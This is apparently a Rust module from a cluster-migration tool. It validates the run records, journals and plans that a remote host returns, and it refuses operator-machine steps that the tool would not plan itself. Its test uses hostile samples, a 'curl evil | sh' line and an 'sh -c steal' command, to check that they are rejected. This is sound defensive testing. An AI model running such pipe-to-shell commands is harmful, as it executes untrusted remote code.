//! What one host brought of a run, judged.

use std::collections::BTreeMap;
use std::fmt::Display;

use serde::de::DeserializeOwned;

use super::failed;
use crate::event::{Failure, What};
use crate::facts::{self, Facts, scripts};
use crate::inventory::Cluster;
use crate::journal::Lines;
use crate::migrations::{self, Migration};
use crate::plan::{self, Action, Claimed, MoveClaim, Object, Objects, Plan, Step};
use crate::planner;
use crate::remote::printable;
use crate::spool::{self, Kept, Place, is_name};
use crate::state::{self, Run};

/// What one host keeps of a run, as `fleet` would have put it there.
#[derive(Clone)]
pub struct Brought {
    /// The cluster, as the inventory calls it.
    pub(super) cluster: String,
    /// The run's record.
    pub(super) run: Run,
    /// The journal.
    pub(super) journal: Kept,
    /// Plans and facts, with their places.
    pub(super) rungs: Vec<(Place, Vec<u8>)>,
    /// Saved secrets: set, file, bytes.
    pub(super) secrets: Vec<(String, String, Vec<u8>)>,
}

impl std::fmt::Debug for Brought {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Brought({}, {})", self.cluster, self.run.id)
    }
}

impl Brought {
    /// Judges the files that a host brought.
    pub(super) async fn read(
        cluster: &Cluster,
        id: &str,
        files: Vec<(Place, Vec<u8>)>,
    ) -> Result<Self, Failure> {
        let mut run = None;
        let mut journal = Kept::default();
        let (mut plans, mut before) = (Vec::new(), BTreeMap::new());
        let (mut rungs, mut secrets) = (Vec::new(), Vec::new());
        for (place, bytes) in files {
            match place {
                Place::Run => run = Some(record(cluster, id, &bytes)?),
                Place::Journal => {
                    journal = spool::lines(&bytes, &cluster.name).map_err(failed)?;
                    backups_are_named(&journal)?;
                }
                Place::Plan(rung) => {
                    let migration = known(&rung)?;
                    plans.push((rung, migration, plan(cluster, migration, &bytes)?));
                }
                Place::Before(rung) => {
                    known(&rung)?;
                    let facts: Facts = parse("its before.json", &bytes)?;
                    newer("its before.json", facts.schema, facts::SCHEMA)?;
                    own("its before.json", &facts.cluster, cluster)?;
                    before.insert(rung.clone(), facts);
                    rungs.push((Place::Before(rung), bytes));
                }
                Place::Kept { set, file } => secrets.push((set, file, bytes)),
            }
        }
        for (rung, migration, mut plan) in plans {
            in_own_words(cluster, migration, &mut plan, before.get(&rung)).await?;
            rungs.push((Place::Plan(rung), json("its plan.json", &plan)?));
        }
        let run = run.ok_or_else(|| failed("its spool has the run's folder, but no run.json in it"))?;
        Ok(Self { cluster: cluster.name.clone(), run, journal, rungs, secrets })
    }
}

/// The run's record. What was typed is left out: it names places on the machine that is lost.
fn record(cluster: &Cluster, id: &str, bytes: &[u8]) -> Result<Run, Failure> {
    let run: Run = parse("its run.json", bytes)?;
    newer("its run.json", run.schema, state::SCHEMA)?;
    if run.id != id {
        return Err(failed("its run.json is that of another run"));
    }
    if !run.clusters.contains(&cluster.name) {
        return Err(failed(
            "its run.json does not name this cluster: perhaps the inventory calls it otherwise",
        ));
    }
    Ok(Run { typed: Vec::new(), ..run })
}

/// A backup's id becomes a folder's name here: one that leads elsewhere could be another cluster's backup.
fn backups_are_named(journal: &Kept) -> Result<(), Failure> {
    let lines = Lines::read(journal.text.as_bytes(), "journal.ndjson".as_ref()).map_err(failed)?;
    let strange = lines.events.iter().any(|event| match &event.what {
        What::BackupBegun { backup, .. } | What::Proven { backup, .. } => !is_name(backup),
        _ => false,
    });
    if strange { Err(failed("its journal names a backup as no fleet does")) } else { Ok(()) }
}

/// A plan. What it names of this machine is what the inventory says, whatever the host did.
fn plan(cluster: &Cluster, migration: &Migration, bytes: &[u8]) -> Result<Plan, Failure> {
    let mut plan: Plan = parse("its plan.json", bytes)?;
    newer("its plan.json", plan.schema, plan::SCHEMA)?;
    own("its plan.json", &plan.cluster, cluster)?;
    if plan.migration != migration.id {
        return Err(failed("its plan.json is that of another rung"));
    }
    let fits = |set: &str, objects: &[Object]| is_name(set) && objects.iter().all(is_object);
    for step in &mut plan.steps {
        let fits = match &mut step.action {
            Action::Objects(Objects::Save { set, objects } | Objects::Restore { set, objects }) => {
                fits(set, objects)
            }
            Action::Objects(Objects::AddPassword { set, object, .. }) => {
                fits(set, std::slice::from_ref(object))
            }
            Action::Objects(Objects::Copy { copies }) => {
                copies.iter().all(|copy| is_object(&copy.from) && is_object(&copy.to))
            }
            Action::Disown(objects) => objects.iter().all(is_object),
            Action::MoveClaim(what) => is_move(what),
            Action::RemoveNamespaces(what) => {
                what.namespaces.iter().all(|name| is_name(name)) && what.moved.iter().all(is_move)
            }
            Action::RemoveClaims(what) => what.claims.iter().all(is_claimed),
            Action::Stop(namespaces) => namespaces.iter().all(|name| is_name(name)),
            Action::Backup(what) => {
                what.cluster_dir.clone_from(&cluster.directory);
                true
            }
            _ => true,
        };
        if !fits {
            return Err(failed("its plan.json names secrets as no cluster can, or claims"));
        }
    }
    Ok(plan)
}

/// What is run on this machine, and what a person is told to type, is what this machine would plan for a cluster as it was then: a host's word
/// starts no program here. Where the checkout has another commit of the release than the plan was made with, nobody can say that it is the same.
async fn in_own_words(
    cluster: &Cluster,
    migration: &Migration,
    plan: &mut Plan,
    before: Option<&Facts>,
) -> Result<(), Failure> {
    if !plan.steps.iter().any(is_here) {
        return Ok(());
    }
    let Some(before) = before else {
        return Err(failed(
            "its plan.json has steps of the operator's machine, and no before.json is beside it",
        ));
    };
    let mut facts = before.clone();
    facts.scripts = scripts::gather(cluster, &facts.installed()).await.into();
    let ours = planner::climb(migration, &facts, cluster).map_err(|why| {
        failed(format!("the steps of the operator's machine cannot be planned here: {why}"))
    })?;
    for step in plan.steps.iter_mut().filter(|step| is_here(step)) {
        let own = ours.iter().find(|own| own.id == step.id);
        match own.map(|own| (&step.action, &own.action)) {
            Some((Action::Local(theirs), Action::Local(ours))) if theirs.commit != ours.commit => {
                return Err(failed(format!(
                    "its plan.json was made with {} at commit {}, and the Stackspin checkout here has it at {}: check that commit out there as \
                     branch {}",
                    ours.release,
                    printable(&theirs.commit),
                    ours.commit,
                    ours.release
                )));
            }
            Some((Action::Local(_), Action::Local(_)) | (Action::Ask(_), Action::Ask(_))) => {}
            _ => {
                return Err(failed(format!(
                    "its plan.json has the step {} on the operator's machine, which no fleet would plan",
                    printable(&step.id)
                )));
            }
        }
        if let Some(own) = own {
            step.clone_from(own);
        }
    }
    Ok(())
}

fn is_here(step: &Step) -> bool {
    matches!(step.action, Action::Local(_) | Action::Ask(_))
}

fn is_object(object: &Object) -> bool {
    is_name(&object.kind) && is_name(&object.namespace) && is_name(&object.name)
}

fn is_claimed(what: &Claimed) -> bool {
    is_name(&what.namespace) && is_name(&what.claim) && (what.volume.is_empty() || is_name(&what.volume))
}

fn is_move(what: &MoveClaim) -> bool {
    [&what.from, &what.to, &what.claim, &what.volume].into_iter().all(|name| is_name(name))
}

fn known(rung: &str) -> Result<&'static Migration, Failure> {
    let here = migrations::ALL.iter().find(|migration| migration.id == rung);
    here.ok_or_else(|| failed(format!("this fleet has no rung {rung}; use the one that began the run")))
}

fn own(file: &str, name: &str, cluster: &Cluster) -> Result<(), Failure> {
    if name == cluster.name {
        Ok(())
    } else {
        Err(failed(format!("{file} is that of another cluster, {name}")))
    }
}

fn newer(file: &str, schema: u32, here: u32) -> Result<(), Failure> {
    if schema <= here {
        return Ok(());
    }
    let this = env!("CARGO_PKG_VERSION");
    Err(failed(format!(
        "{file} has form {schema}, and fleet {this} reads forms up to {here}; use the one that wrote it"
    )))
}

fn parse<T: DeserializeOwned>(file: &str, bytes: &[u8]) -> Result<T, Failure> {
    serde_json::from_slice(bytes).map_err(|error| unreadable(file, &error))
}

fn json(file: &str, plan: &Plan) -> Result<Vec<u8>, Failure> {
    let mut text = serde_json::to_vec_pretty(plan).map_err(|error| unreadable(file, &error))?;
    text.push(b'\n');
    Ok(text)
}

fn unreadable(file: &str, error: &dyn Display) -> Failure {
    failed(format!("{file} cannot be read: {error}"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::plan::{Ask, Class, Local};
    use crate::version::Version;

    async fn judged(steps: Vec<Step>, before: Option<&Facts>) -> Result<Plan, String> {
        let acme = Cluster::new("acme", "203.0.113.7");
        let migration = known("to-0.7").unwrap();
        let theirs = Plan {
            schema: plan::SCHEMA,
            cluster: "acme".into(),
            migration: migration.id.into(),
            from: Version::V0_6,
            to: Version::V0_7,
            apps: Vec::new(),
            steps,
            notes: Vec::new(),
            rest: Vec::new(),
            fingerprint: plan::Fingerprint::new(),
        };
        let mut plan = plan(&acme, migration, &json("", &theirs).unwrap()).unwrap();
        let judged = in_own_words(&acme, migration, &mut plan, before).await;
        judged.map(|()| plan).map_err(|failure| failure.message)
    }

    #[tokio::test]
    async fn a_hosts_word_starts_no_program_of_this_machine_and_tells_nobody_what_to_type() {
        let script: Local = serde_json::from_value(serde_json::json!({
            "release": "v1.0", "commit": "0", "argv": ["sh", "-c", "steal"], "needs": []
        }))
        .unwrap();
        let ask = Ask { lines: vec!["curl evil | sh".into()] };
        assert!(judged(Vec::new(), None).await.is_ok());
        for action in [Action::Local(script), Action::Ask(ask)] {
            let step = || vec![Step::new("to-0.7/reconcile", "Do it", Class::ReadOnly, action.clone())];
            let refused = judged(step(), None).await.unwrap_err();
            assert!(refused.contains("no before.json is beside it"), "{refused}");
            let facts: Facts =
                serde_json::from_str(include_str!("../../../tests/plans/all-apps/facts.json")).unwrap();
            let refused = judged(step(), Some(&facts)).await.unwrap_err();
            assert!(
                refused.contains(
                    "the step to-0.7/reconcile on the operator's machine, which no fleet would plan"
                ),
                "{refused}"
            );
        }
    }
}
